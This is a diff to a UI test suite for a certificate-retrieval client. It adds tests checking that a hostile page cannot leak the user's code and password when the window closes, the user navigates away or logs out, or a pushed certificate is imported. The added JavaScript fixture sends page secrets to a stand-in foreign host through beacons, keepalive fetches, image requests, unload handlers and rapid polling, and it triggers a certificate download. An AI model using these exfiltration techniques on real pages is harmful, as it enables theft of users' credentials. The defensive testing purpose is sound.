@@ -136,6 +136,30 @@ function filled() { own("done"); }
 document.addEventListener("keydown", ({ key }) => { if (loud[key]) { own("tried " + key); setTimeout(loud[key], 300); } });
 """
 
+# What goes on asking for as long as the page lives, and asks once more when it is left.
+_LEFT = """
+const last = (way) => {
+  const url = foreign + way + "?" + encodeURIComponent(read());
+  navigator.sendBeacon(url, read());
+  fetch(url, {mode: "no-cors", keepalive: true, method: "POST", body: read()}).catch(() => {});
+  new Image().src = url;
+  const x = new XMLHttpRequest();
+  x.open("POST", url, false);
+  try { x.send(read()); } catch (e) { }
+};
+const hand_out = () => {
+  const a = document.body.appendChild(document.createElement("a"));
+  a.href = "/mine.p12";
+  a.click();
+};
+function filled() {
+  for (const kind of ["pagehide", "unload", "beforeunload", "visibilitychange"]) addEventListener(kind, () => last(kind));
+  setInterval(() => { new Image().src = foreign + "still?" + encodeURIComponent(read()) + Math.random(); }, 20);
+  setInterval(() => fetch(foreign + "on?" + encodeURIComponent(read()), {mode: "no-cors"}).catch(() => {}), 50);
+  done();
+}
+"""
+
 
 class HostilePage(UiCase):
     """Alice retrieves a certificate; the page is in the hands of somebody who wants her code and password."""
@@ -234,6 +258,53 @@ class HostilePage(UiCase):
             self.assertFalse(any("New Message" in node.name for node in client.root.children()))
             if is_refused:
                 client.press("Go Back", within=client.wait_for_window(TITLE))
+        self.assert_calm(client)
+
+    def test_left(self):
+        """Nor when the window is closed."""
+        client = self.retrieve(_LEFT)
+        client.window(TITLE).close()
+        client.wait_until_closed(TITLE)
+        time.sleep(2)
+        self.assert_nothing_left(client)
+
+    def test_left_for_home(self):
+        """Nor when the provider's first page is opened in its place, where others may be asked again."""
+        client = self.retrieve(_LEFT)
+        self.shop.own.pages["/"] = f"<img src=https://localhost:{self.shop.ports['foreign']}/at-home>"
+        client.press("Menu", within=client.wait_for_window(TITLE))
+        client.press("Start Page", role="menu item")
+        wait_until(lambda: "/at-home" in self.shop.foreign.asked, "the first page asks others")
+        time.sleep(2)
+        self.shop.foreign.asked.remove("/at-home")
+        self.assert_nothing_left(client)
+
+    def test_left_by_logging_out(self):
+        client = self.retrieve(_LEFT)
+        client.press("Menu", within=client.wait_for_window(TITLE))
+        client.press("Log Out and Forget…", role="menu item")
+        client.wait_for("label", text="Log Out of The Shop.*")
+        client.press("Log Out")
+        wait_until(lambda: self.shop.own.asked[-1] == "/", "the first page is opened")
+        time.sleep(2)
+        self.assert_nothing_left(client)
+
+    def test_handed_out(self):
+        """Nor after a certificate that the page hands out is imported: the password opens the one that comes by mail."""
+        pfx = self.world.folder / "mine.p12"
+        self.sandbox.command("issue", address=self.world.address("alice"), name="王芳", out=str(pfx), password="try-it")
+        self.shop.own.pages["/mine.p12"] = pfx.read_bytes()
+        client = self.retrieve(_LEFT, "setTimeout(hand_out, 4000);")
+        client.wait_for("label", text="Import the certificate “mine.p12”.", limit=30)
+        client.write("Password of the certificate", "try-it")
+        client.press("Import", within=client.wait_for_window(TITLE))
+        client.wait_for("label", text="The certificate is imported.")
+        time.sleep(2)
+        self.assert_nothing_left(client)
+        client.window(TITLE).close()
+        client.wait_until_closed(TITLE)
+        time.sleep(1)
+        self.assert_nothing_left(client)
         self.assert_calm(client)
 
     def test_hearing(self):
